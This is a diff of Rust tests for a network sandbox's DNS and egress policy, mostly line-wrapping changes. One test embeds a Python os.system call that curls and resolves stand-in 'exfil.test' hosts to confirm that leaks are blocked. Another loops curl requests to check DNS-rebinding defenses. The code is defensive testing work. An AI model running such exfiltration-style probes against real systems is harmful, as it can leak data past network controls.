@@ -29,7 +29,8 @@ import os
 os.system('curl -s --max-time 5 https://more-secret.exfil.test/ >/dev/null; getent hosts secret.exfil.test >/dev/null')
 "#;
         lab.sandbox(&policy).resolver(server.address()).python(program).success();
-        let strangers: Vec<_> = server.asked().into_iter().filter(|name| name != "good.test").collect();
+        let strangers: Vec<_> =
+            server.asked().into_iter().filter(|name| name != "good.test").collect();
         assert_eq!(strangers, Vec::<String>::new());
     });
 }
@@ -56,7 +57,11 @@ fn a_name_is_resolved_and_dialled_by_the_interceptor() {
         plan.connect = format!("good.test:{}", lab.origin().port());
         plan.requests[0].host = plan.connect.clone();
         let reports = lab.sandbox(&policy).resolver(server.address()).fetch(&plan);
-        assert_eq!((reports[0].error.as_deref(), reports[0].answers.len()), (None, 1), "{reports:?}");
+        assert_eq!(
+            (reports[0].error.as_deref(), reports[0].answers.len()),
+            (None, 1),
+            "{reports:?}"
+        );
         assert_eq!(reports[0].answers[0].status, 200, "{reports:?}");
     });
 }
@@ -79,7 +84,8 @@ fn d3_a_name_that_points_inside_is_not_dialled() {
             let mut plan = Plan::https("good.test", "http/1.1").ask("GET", "/x");
             plan.connect = format!("good.test:{port}");
             plan.requests[0].host = plan.connect.clone();
-            let (reports, outcome) = lab.sandbox(&policy).resolver(server.address()).fetch_outcome(&plan);
+            let (reports, outcome) =
+                lab.sandbox(&policy).resolver(server.address()).fetch_outcome(&plan);
             assert_eq!(reports[0].error, None, "{addresses:?}: {}", outcome.tail());
             let refusal = reports[0].answers[0].refusal();
             assert!(refusal.status == 403 || refusal.status == 502, "{addresses:?}: {refusal:?}");
@@ -97,7 +103,8 @@ fn d3_an_answer_that_changes_between_check_and_dial_does_not_help() {
         let policy = json!({ "network": { "allow": ["good.test"] } });
         let port = lab.forbidden().port();
         let script = format!(
-            "for n in 1 2 3 4 5 6; do curl -s --max-time 1 -o /dev/null http://good.test:{port}/; done; true"
+            "for n in 1 2 3 4 5 6; do curl -s --max-time 1 -o /dev/null http://good.test:{port}/; \
+             done; true"
         );
         lab.sandbox(&policy).resolver(server.address()).shell(&script).success();
         // The reach oracle notices if loopback was dialled even once.
